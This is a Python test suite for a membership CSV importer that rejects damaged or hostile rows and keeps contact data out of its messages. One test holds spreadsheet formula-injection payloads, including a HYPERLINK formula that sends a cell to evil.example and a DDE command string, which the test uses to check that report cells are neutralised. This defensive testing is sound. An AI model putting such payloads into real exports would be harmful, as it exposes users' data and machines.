"""CSV import under hostile or damaged input: every bad row is rejected with its physical line and column,
every valid row beside it is imported, a file is refused only before anything is written, and nothing
printed, logged or reported repeats an e-mail address or a phone number.

Database tests run on SQLite and PostgreSQL (the ``engine`` / ``db_url`` fixtures).
"""

from __future__ import annotations

import csv
import logging
import re
import tracemalloc
from pathlib import Path

import pytest
import sqlalchemy as sa

from membercare import validation as v
from membercare.data.importer import MAX_RECORD_CHARS, ImportDatabaseError, spreadsheet_cell
from membercare.db import make_engine
from membercare.errors import InputError
from membercare.models import ConsentEvent, ImportRun, Member, Order, OrderLine
from test_import import MEMBER_HEADER, ORDER_HEADER, SETTINGS, _cli, imp, member_row, read_rejects, write_csv

LEAN = "member_id,name,email,phone,joined_at"


def lean_row(i: int, name: str | None = None) -> str:
    """One line of a lean members file; every member has an e-mail address and a phone number to leak."""
    return f"M{i:04d},{name if name is not None else f'Member {i}'},{email(i)},{phone(i)},2024-01-{1 + i % 27:02d}"


def email(i: int) -> str:
    return f"member{i}@example.com"


def phone(i: int) -> str:
    return f"0912345{i:03d}"


def write_lines(path: Path, lines: list[str | bytes], *, newline: bytes = b"\n") -> Path:
    """A file of exactly these physical lines (bytes are written as they are, text as UTF-8)."""
    path.write_bytes(newline.join(x if isinstance(x, bytes) else x.encode() for x in lines) + newline)
    return path


def stored_members(engine, table: str = "members") -> dict[str, str]:
    with engine.connect() as conn:
        return dict(conn.execute(sa.text(f"SELECT external_id, name FROM {table}")).all())


def rejects_by_line(report) -> dict[int, str]:
    return {int(x["line"]): x["reason"] for x in read_rejects(report.rejects_path)} if report.rejects_path else {}


def assert_no_contact_data(*texts: str, n: int = 60) -> None:
    """None of the texts holds any member's e-mail address or phone number (local or E.164)."""
    blob = "\n".join(texts)
    for i in range(n):
        for secret in (email(i), phone(i), "+886" + phone(i)[1:]):
            assert secret not in blob, f"{secret} was printed"


@pytest.fixture
def quiet(capsys, caplog):
    """What the import printed and logged, for the no-personal-data checks."""
    caplog.set_level(logging.DEBUG)

    def collected() -> str:
        out, err = capsys.readouterr()
        return out + err + caplog.text

    return collected


# ---------------------------------------------------------------------------------------------------------------------
# The rejects report is opened in spreadsheets


def test_rejects_report_cells_cannot_run_as_formulas(engine, tmp_path):
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
               "\tTAB", "\r=1+2"]
    rows = [member_row(i, name=h, email="bad") for i, h in enumerate(hostile, 1)]
    rows.append(member_row(9, points_balance="-5"))  # a plain negative number is no formula
    f = write_csv(tmp_path / "members.csv", [*MEMBER_HEADER, "=notes"], [[*r, "=1+1"] for r in rows])
    r = imp(engine, "members", f, allow_extra_columns=True)
    assert r.rejected == len(rows)
    with open(r.rejects_path, newline="", encoding="utf-8") as fh:
        table = list(csv.reader(fh))
    assert table[0][-3:] == ["'=notes", "line", "reason"]
    # Cells are trimmed when imported but written to the report as they were read.
    assert [row[1] for row in table[1:]] == [
        "'" + hostile[0], "'" + hostile[1], "'-2+3", "'@SUM(1+1)", "'\tTAB", "'\r=1+2", "Member 9"]
    assert table[-1][MEMBER_HEADER.index("points_balance")] == "-5"
    assert all(row[-3] == "'=1+1" for row in table[1:])
    for row in table:
        for cell in row:
            assert not cell or cell[0] not in "=+@\t\r" and not re.match(r"-\D", cell), row


def test_spreadsheet_cell():
    assert spreadsheet_cell("=1+1") == "'=1+1" and spreadsheet_cell("@x") == "'@x"
    assert spreadsheet_cell("-5") == "-5" and spreadsheet_cell("+886912345678") == "+886912345678"
    assert spreadsheet_cell("-1,200.50") == "-1,200.50" and spreadsheet_cell("-1+1") == "'-1+1"
    assert spreadsheet_cell("plain") == "plain" and spreadsheet_cell("") == ""
    assert spreadsheet_cell("a\udcb3") == "a\ufffd"


# ---------------------------------------------------------------------------------------------------------------------
# NUL and other control characters


def test_nul_and_control_characters_reject_their_row_only(engine, tmp_path, quiet):
    f = write_lines(tmp_path / "members.csv", [
        LEAN,
        lean_row(1),                                                           # 2 ok
        lean_row(2, "Bad\x00Name"),                                            # 3 NUL
        lean_row(3),                                                           # 4 ok
        lean_row(4).replace("M0004", "M\x070004"),                             # 5 BEL in the key
        lean_row(5).replace(email(5), "member5@exa\tmple.com"),                # 6 tab in an e-mail
        lean_row(6, "Tab\tName"),                                              # 7 ok: a name is free text
        lean_row(7).replace(phone(7), phone(7)[:4] + "\x1b" + phone(7)[4:]),  # 8 ESC
        lean_row(8).replace("2024-01-09", "2024-01-09\x7f"),                   # 9 DEL
        lean_row(9, "Nel\x85Name"),                                            # 10 C1 control in a name
        lean_row(10),                                                          # 11 ok
    ])
    r = imp(engine, "members", f, batch_size=3)
    got = rejects_by_line(r)
    assert got == {
        3: "name contains a NUL character at character 4",
        5: "member_id contains the control character U+0007 at character 2",
        6: "email contains a tab at character 12",
        8: "phone contains the control character U+001B at character 5",
        9: "joined_at contains the control character U+007F at character 11",
        10: "name contains the control character U+0085 at character 4",
    }
    assert (r.inserted, r.rejected, r.rows_total) == (4, 6, 10)
    assert stored_members(engine) == {"M0001": "Member 1", "M0003": "Member 3", "M0006": "Tab\tName",
                                      "M0010": "Member 10"}
    assert_no_contact_data(quiet(), *(x.reason for x in r.sample_rejects), *got.values())


def test_control_characters_in_orders_and_consents(engine, tmp_path, quiet):
    imp(engine, "members", write_csv(tmp_path / "m.csv", MEMBER_HEADER, [member_row(i) for i in (1, 2)]))
    order = ["2024-03-01 10:00", "paid", "TWD"]
    f = write_csv(tmp_path / "orders.csv", ORDER_HEADER, [
        ["O1", "M000001", *order, "1", "SKU-1", "Tea", "tea", "1", "100"],         # 2
        ["O1", "M000001", *order, "2", "SKU\x002", "Cup", "cups", "1", "50"],      # 3 NUL: the whole order goes
        ["O2", "M000002", *order, "1", "SKU-1", "Tea\tgift box", "tea", "1", "100"],  # 4 a tab in a product name
        ["O3", "M000002", *order, "1", "SKU-3", "Pot", "tea\nware", "1", "900"],  # 5-6 a line break in a category
        ["O4", "M000001", *order, "1", "SKU-4", "Bowl", "tableware", "1", "300"],  # 7
    ])
    r = imp(engine, "orders", f, batch_size=2)
    got = rejects_by_line(r)
    assert set(got) == {2, 3, 5, 6}
    assert got[3] == "sku contains a NUL character at character 4" and "rejected because of line 3" in got[2]
    assert got[5].startswith("category contains a line break: the quoted cell spans lines 5-6")
    # The line it swallowed is read again as a row of its own (and rejected for what it is).
    assert got[6] == "expected 11 fields, found 3"
    assert r.inserted == 2 and r.rejected == 4
    with engine.connect() as conn:
        assert sorted(conn.execute(sa.select(Order.external_id)).scalars()) == ["O2", "O4"]
        assert conn.execute(sa.select(sa.func.count()).select_from(OrderLine)).scalar() == 2

    c = write_lines(tmp_path / "consents.csv", [
        "member_id,channel,purpose,granted,occurred_at,source,detail",
        'M000001,email,marketing,yes,2024-01-01,support,"Called back:\r\n\tsaid yes"',  # 2-3 free text
        "M000002,email,marketing,yes,2024-01-01,support,spoke\x00to her",            # 4
        "M000002,sms,marketing,no,2024-01-02,sms\x0b_stop,",                          # 5
        "M000002,push,marketing,yes,2024-01-03,support,ok",                           # 6
    ])
    r = imp(engine, "consents", c)
    assert rejects_by_line(r) == {4: "detail contains a NUL character at character 6",
                                  5: "source contains the control character U+000B at character 4"}
    assert r.inserted == 2
    with engine.connect() as conn:
        details = set(conn.execute(sa.select(ConsentEvent.detail)).scalars())
    assert "Called back:\r\n\tsaid yes" in details
    assert_no_contact_data(quiet())


# ---------------------------------------------------------------------------------------------------------------------
# Rows refused part-way: over-long cells and bytes that are not UTF-8


def test_an_over_long_cell_rejects_its_row_and_the_rest_is_imported(engine, tmp_path):
    f = write_lines(tmp_path / "members.csv", [
        LEAN, *(lean_row(i) for i in range(1, 8)),
        lean_row(8, "x" * 200_000),                      # line 9: longer than any record may be
        lean_row(9, "y" * 5_000),                        # line 10: fits a record, too long for a name
        *(lean_row(i) for i in range(10, 13)),
    ])
    r = imp(engine, "members", f, batch_size=3)
    assert rejects_by_line(r) == {9: f"the line is longer than {MAX_RECORD_CHARS:,} characters",
                                  10: "name is longer than 200 characters"}
    assert r.inserted == 10 and set(stored_members(engine)) == {f"M{i:04d}" for i in (*range(1, 8), 10, 11, 12)}


def test_a_file_without_line_breaks_is_read_in_bounded_memory(sqlite_engine, tmp_path):
    f = tmp_path / "members.csv"
    with open(f, "wb") as fh:
        fh.write(f"{LEAN}\n{lean_row(1)}\n".encode())
        for _ in range(200):  # 20 MB on one line (a binary file appended to an export, say)
            fh.write(b"z," * 50_000)
        fh.write(f"\r\n{lean_row(2)}\n".encode())
    imp(sqlite_engine, "members", write_lines(tmp_path / "warm.csv", [LEAN, lean_row(3)]))  # warm caches
    tracemalloc.start()
    try:
        r = imp(sqlite_engine, "members", f)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert rejects_by_line(r) == {3: f"the line is longer than {MAX_RECORD_CHARS:,} characters"}
    assert r.inserted == 2  # M0001 before it, M0002 on line 4 after it
    assert peak < 8 * 2**20, f"peak {peak / 2**20:.1f} MiB"


def test_bytes_that_are_not_utf8_reject_their_row_on_its_physical_line(engine, tmp_path):
    lines: list[str | bytes] = [LEAN]
    lines.append(lean_row(1, '"陳\n怡君"'))                   # lines 2-3: one record
    lines += [lean_row(i, f"王小明{i}") for i in range(2, 7)]   # lines 4-8
    lines.append(lean_row(7, "").encode().replace(b"M0007,", b"M0007," + "林".encode("big5")))  # line 9
    lines += [lean_row(i, f"李{i}") for i in range(8, 11)]     # lines 10-12
    f = write_lines(tmp_path / "members.csv", lines)
    r = imp(engine, "members", f, batch_size=2)
    got = rejects_by_line(r)
    assert got == {9: "name is not UTF-8 text (byte 0xAA at character 1); save the file as UTF-8"}
    assert r.inserted == 9 and stored_members(engine)["M0001"] == "陳\n怡君"
    # The report itself is UTF-8 (the bad bytes become U+FFFD) and still shows the row.
    row = read_rejects(r.rejects_path)[0]
    assert row["member_id"] == "M0007" and row["name"] == "\ufffdL"  # Big5 0xAA 0x4C


def test_a_file_in_another_encoding_is_refused_before_anything_is_written(engine, tmp_path):
    body = "\n".join(f"M{i:04d},{name},2024-01-02" for i, name in enumerate(["陳怡君", "王小明", "林美玲"] * 10))
    f = tmp_path / "big5.csv"
    f.write_bytes(b"member_id,name,joined_at\n" + body.encode("big5") + b"\n")
    with pytest.raises(InputError, match=r"not UTF-8 text \(30 of the 30 lines .* the first is line 2\)"):
        imp(engine, "members", f, batch_size=5)
    with engine.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(ImportRun)).scalar() == 0
        assert conn.execute(sa.select(sa.func.count()).select_from(Member)).scalar() == 0


@pytest.mark.parametrize("content, message", [
    (b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00", "U\\+0003.*is this a CSV text file"),  # an .xlsx
    (b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", "not UTF-8 text"),                         # a .gz
    (b"member_id,na\x00me,joined_at\nM1,x,2024-01-01\n", "the header row contains a NUL character"),
    (b'member_id,"name,joined_at\nM1,x,2024-01-01\n', "cannot read the header row"),
    (b"member_id,name," + b"j" * 70_000 + b"\nM1,x,2024-01-01\n", "the header row is longer than"),
])
def test_files_that_are_not_csv_are_refused_before_anything_is_written(engine, tmp_path, content, message):
    f = tmp_path / "members.csv"
    f.write_bytes(content)
    with pytest.raises(InputError, match=message):
        imp(engine, "members", f)
    with engine.connect() as conn:
        assert conn.execute(sa.select(sa.func.count()).select_from(ImportRun)).scalar() == 0


def test_line_numbers_are_physical_lines(engine, tmp_path):
    f = write_lines(tmp_path / "members.csv", [
        LEAN,                                           # 1
        lean_row(1, '"Multi\r\nline\r\nname"'),         # 2-4
        "",                                             # 5 blank
        lean_row(2).replace(email(2), "nope"),          # 6
        lean_row(3, '"Another\r\nname"'),               # 7-8
        lean_row(4).replace("2024-01-05", "never"),     # 9
        ",,,,",                                         # 10 filler
        lean_row(5, "Trailing,comma"),                  # 11 six fields
    ], newline=b"\r\n")
    r = imp(engine, "members", f, batch_size=1)
    got = rejects_by_line(r)
    assert set(got) == {6, 9, 11} and "invalid email" in got[6] and "expected 5 fields, found 6" in got[11]
    assert [x.line for x in r.sample_rejects] == [6, 9, 11]
    assert stored_members(engine) == {"M0001": "Multi\r\nline\r\nname", "M0003": "Another\r\nname"}


def test_a_line_break_split_by_the_read_limit_is_one_line_break():
    import io

    from membercare.data.importer.reading import _READ_LIMIT, _Lines

    # readline(limit) returns the "\r" of an over-long line's "\r\n" as the limit's last character.
    text = "a" * (_READ_LIMIT - 1) + "\r\n" + "b\r\n" + "c" * (_READ_LIMIT - 2) + "\r\n" + "d\n"
    lines = _Lines(io.TextIOWrapper(io.BytesIO(text.encode()), encoding="utf-8", newline=""))
    got = []
    while True:
        try:
            line = lines.physical()
        except StopIteration:
            break
        got.append((lines.number, line if line is None else line[:3]))
    assert got == [(1, None), (2, "b\r\n"), (3, "ccc"), (4, "d\n")]


# ---------------------------------------------------------------------------------------------------------------------
# Quotes that do not close


def test_an_unterminated_quote_reports_the_lines_it_swallowed_and_keeps_the_rows_after_it(engine, tmp_path):
    f = write_lines(tmp_path / "members.csv",
                    [LEAN, *(lean_row(i, '"Chen' if i == 5 else None) for i in range(1, 41))])
    r = imp(engine, "members", f, batch_size=2)
    assert rejects_by_line(r) == {6: (
        "unterminated quote in name: the quoted cell runs to the end of the file; lines 6-41 were read as one "
        "record, so line 6 is rejected and lines 7-41 read again as rows")}
    names = stored_members(engine)
    assert set(names) == {f"M{i:04d}" for i in range(1, 41) if i != 5}
    assert all("\n" not in n and "," not in n for n in names.values())  # nothing swallowed into a cell
    row = read_rejects(r.rejects_path)[0]
    assert (row["member_id"], row["name"], row["email"]) == ("M0005", f"Chen,{email(5)},{phone(5)},2024-01-06", "")


def test_a_stray_quote_closed_by_another_keeps_the_rows_between_them(engine, tmp_path):
    # Two stray quotes that make a record of the right width: the rows between them would become one name.
    f = write_lines(tmp_path / "members.csv",
                    [LEAN, *(lean_row(i, {3: '"Chen', 7: 'Wu"'}.get(i)) for i in range(1, 11))])
    r = imp(engine, "members", f, batch_size=3)
    got = rejects_by_line(r)
    assert got == {4: ("the quoted cell in name spans lines 4-8, and line 4 holds a whole row of 5 fields "
                       "(an unbalanced quote?); lines 4-8 were read as one record, so line 4 is rejected and "
                       "lines 5-8 read again as rows")}
    names = stored_members(engine)
    assert set(names) == {f"M{i:04d}" for i in range(1, 11) if i != 3} and names["M0007"] == 'Wu"'

    # A closing quote a few lines on that leaves the wrong number of fields.
    f = write_lines(tmp_path / "m2.csv", [LEAN, lean_row(11), f'M0012,"Chen,{email(12)}', lean_row(13),
                                          f'M0014,x",{email(14)},{phone(14)}', lean_row(15)])
    r = imp(engine, "members", f)
    got = rejects_by_line(r)
    assert list(got) == [3, 5] and got[3].startswith("expected 5 fields, found 4: the quoted cell in name spans "
                                                     "lines 3-5")
    assert "lines 3-5 were read as one record" in got[3] and got[5] == "expected 5 fields, found 4"
    assert {"M0011", "M0013", "M0015"} <= set(stored_members(engine))


def test_a_quote_in_an_order_line_costs_that_order_only(engine, tmp_path):
    imp(engine, "members", write_csv(tmp_path / "m.csv", MEMBER_HEADER, [member_row(i) for i in (1, 2)]))
    head = "order_id,member_id,placed_at,status,currency,line_no,sku,product_name,category,quantity,line_amount"
    common = "2024-03-01 10:00,paid,TWD"
    f = write_lines(tmp_path / "orders.csv", [
        head,
        f"O1,M000001,{common},1,SKU-1,Tea,tea,1,100",
        f'O2,M000001,{common},1,SKU-2,"Cup,cups,1,50',       # line 3: the quote never closes
        f"O2,M000001,{common},2,SKU-1,Tea,tea,1,100",
        f"O3,M000002,{common},1,SKU-1,Tea,tea,2,200",
        f"O3,M000002,{common},2,SKU-3,Pot,tea,1,900",
    ])
    r = imp(engine, "orders", f, batch_size=2)
    got = rejects_by_line(r)
    assert set(got) == {3, 4} and got[3].startswith("unterminated quote in product_name")
    assert got[4] == "order 'O2' rejected because of line 3"
    with engine.connect() as conn:
        assert sorted(conn.execute(sa.select(Order.external_id)).scalars()) == ["O1", "O3"]
        assert conn.execute(sa.select(sa.func.count()).select_from(OrderLine)).scalar() == 3


def test_text_after_a_closing_quote_rejects_the_row(engine, tmp_path):
    f = write_lines(tmp_path / "members.csv", [LEAN, lean_row(1), lean_row(2, '"The Rock" Johnson'), lean_row(3)])
    r = imp(engine, "members", f)
    assert rejects_by_line(r) == {3: "text after the closing quote in name (a quote inside a cell must be doubled)"}
    assert set(stored_members(engine)) == {"M0001", "M0003"}


# ---------------------------------------------------------------------------------------------------------------------
# Reasons never repeat contact data


def test_reasons_describe_values_that_could_be_contact_data_instead_of_repeating_them(engine, tmp_path, quiet):
    # A file whose header names email and joined_at in the wrong order puts addresses where dates belong.
    f = write_lines(tmp_path / "members.csv", [
        "member_id,name,joined_at,country",
        f"M0001,A,{email(1)},TW",
        f"M0002,B,2024-01-01,{phone(2)}",
        f"{phone(3)},C,2024-01-01,TW",  # a phone number as the shop's member id is allowed, just never repeated
        "M0004,D,2024-01-01,TW",
    ])
    r = imp(engine, "members", f)
    got = rejects_by_line(r)
    assert got == {
        2: "joined_at (a value that looks like an e-mail address, not shown) is not an ISO date or datetime",
        3: "unknown country code (a value that looks like a phone number, not shown) (expected ISO 3166 alpha-2, "
           "e.g. TW)",
    }
    assert r.inserted == 2
    dup = write_lines(tmp_path / "dup.csv", [LEAN, f"{phone(3)},C,,,2024-01-01", f"{phone(3)},C,,,2024-01-01"])
    r = imp(engine, "members", dup)
    assert rejects_by_line(r)[3].startswith("duplicate member_id (a value that looks like a phone number, not shown)")
    assert_no_contact_data(quiet(), *got.values(), *rejects_by_line(r).values())


def test_quoted():
    assert v.quoted(" M0001 ") == "'M0001'" and v.quoted("2024-13-01") == "'2024-13-01'"
    assert v.quoted("2024-01-01 10:00:00+08:00") == "'2024-01-01 10:00:00+08:00'"
    assert v.quoted("1,20") == "'1,20'" and v.quoted("-5") == "'-5'"
    assert "not shown" in v.quoted("someone@example.com")
    for phone_like in ("0912345678", "0912-345-678", "+886 912 345 678", "(02) 2345-6789"):
        assert "phone number" in v.quoted(phone_like)
    assert v.quoted("x" * 41) == "(a 41-character value, not shown)"


def test_check_cell_characters():
    v.check_cell_characters("plain 陳 text", field="f")
    v.check_cell_characters("two\r\nlines\tand a tab", field="f", free_text=True)
    for text, reason in [("a\x00", "f contains a NUL character at character 2"),
                         ("a\tb", "f contains a tab at character 2"),
                         ("a\nb", "f contains a line break at character 2"),
                         ("a\u2028b", "f contains a line break at character 2"),
                         ("\x1b[31m", "f contains the control character U+001B at character 1"),
                         ("ab\udcff", "f is not UTF-8 text (byte 0xFF at character 3)")]:
        with pytest.raises(v.ValidationError) as exc:
            v.check_cell_characters(text, field="f")
        assert str(exc.value).startswith(reason)
    with pytest.raises(v.ValidationError, match="NUL"):
        v.check_cell_characters("a\x00", field="f", free_text=True)


# ---------------------------------------------------------------------------------------------------------------------
# Database errors and what the terminal shows


def test_database_refusing_a_value_rejects_that_row_only_and_quotes_no_values(db_url, tmp_path, quiet):
    """A value validation lets through but the database refuses: the batch is applied again row by row."""
    engine = make_engine(db_url)
    try:
        with engine.begin() as conn:
            if engine.dialect.name == "postgresql":
                conn.execute(sa.text("ALTER TABLE members ADD CONSTRAINT no_boom CHECK (name <> 'Boom')"))
            else:
                conn.execute(sa.text("CREATE TRIGGER no_boom BEFORE INSERT ON members WHEN NEW.name = 'Boom' "
                                     "BEGIN SELECT RAISE(ABORT, 'no boom'); END"))
        f = write_lines(tmp_path / "members.csv",
                        [LEAN, *(lean_row(i, "Boom" if i == 4 else None) for i in range(1, 8))])
        r = imp(engine, "members", f, batch_size=100)
        got = rejects_by_line(r)
        assert list(got) == [5] and got[5].startswith("the database refused this row (IntegrityError")
        if engine.dialect.name == "postgresql":
            assert "SQLSTATE 23514" in got[5] and "constraint no_boom" in got[5]
        assert (r.inserted, r.rejected) == (6, 1)
        assert set(stored_members(engine)) == {f"M{i:04d}" for i in (1, 2, 3, 5, 6, 7)}
        # PostgreSQL's own text for this error is "Failing row contains (..., member4@example.com, ...)".
        assert_no_contact_data(quiet(), *got.values())
    finally:
        engine.dispose()


def test_a_database_failure_is_reported_without_statement_or_parameters(db_url, tmp_path, quiet):
    engine = make_engine(db_url)
    try:
        f = write_lines(tmp_path / "members.csv", [LEAN, *(lean_row(i) for i in range(1, 7))])

        def break_the_database(batch):
            with engine.begin() as conn:
                conn.execute(sa.text("ALTER TABLE members RENAME TO members_gone"))

        with pytest.raises(ImportDatabaseError) as exc:
            imp(engine, "members", f, batch_size=3, on_batch_committed=break_the_database)
        message = str(exc.value)
        assert message.startswith("members.csv: the database failed during the import (")
        assert "3 rows up to batch 1 had been committed" in message and "Run the same command again" in message
        for leak in ("[SQL", "parameters", "SELECT", "M0004", "M0005"):
            assert leak not in message
        assert exc.value.__cause__ is None and exc.value.__suppress_context__
        assert set(stored_members(engine, "members_gone")) == {"M0001", "M0002", "M0003"}
        with engine.connect() as conn:
            assert conn.execute(sa.select(ImportRun.status)).scalar_one() == "failed"
        assert_no_contact_data(quiet(), message)
    finally:
        engine.dispose()


def test_cli_prints_line_and_column_but_no_personal_data(db_url, tmp_path):
    """The measured defect: on PostgreSQL a NUL aborted the file and printed the bound values to stderr."""
    f = write_lines(tmp_path / "members.csv", [LEAN, *(lean_row(i, "Bad\x00Name" if i == 5 else None)
                                                      for i in range(1, 11)),
                                               lean_row(11).replace("2024-01-12", "[bold]never[/]")])
    out = _cli("members", str(f), "--batch-size", "3", db=db_url)
    assert out.returncode == 3, out.stderr
    assert "name contains a NUL character at character 4" in out.stdout and "│    6 │" in out.stdout
    # A reason is printed as text, not as terminal markup.
    assert "joined_at '[bold]never[/]' is not an ISO date" in out.stdout
    assert "unexpected error" not in out.stdout + out.stderr
    assert_no_contact_data(out.stdout, out.stderr)
    engine = make_engine(db_url)
    try:
        assert len(stored_members(engine)) == 9
    finally:
        engine.dispose()


def test_cli_names_an_unexpected_error_by_its_type_only(sqlite_engine, tmp_path, monkeypatch):
    from membercare.cli import imports as cli_imports
    from membercare.errors import MembercareError

    def crash(*args, **kwargs):
        raise KeyError(email(1))  # a fault whose text quotes the row being processed

    monkeypatch.setattr(cli_imports, "migrated_engine", lambda: sqlite_engine)
    monkeypatch.setattr(cli_imports.state, "_settings", SETTINGS)  # the CLI's cached settings stay untouched
    monkeypatch.setattr(cli_imports, "import_csv", crash)
    f = write_lines(tmp_path / "members.csv", [LEAN, lean_row(1)])
    with pytest.raises(MembercareError) as exc:
        cli_imports._run_import("members", f, 10, None, False)
    assert str(exc.value) == "members.csv: unexpected KeyError during the import (run with --debug for the traceback)"
    assert isinstance(exc.value.__cause__, KeyError)  # kept for --debug
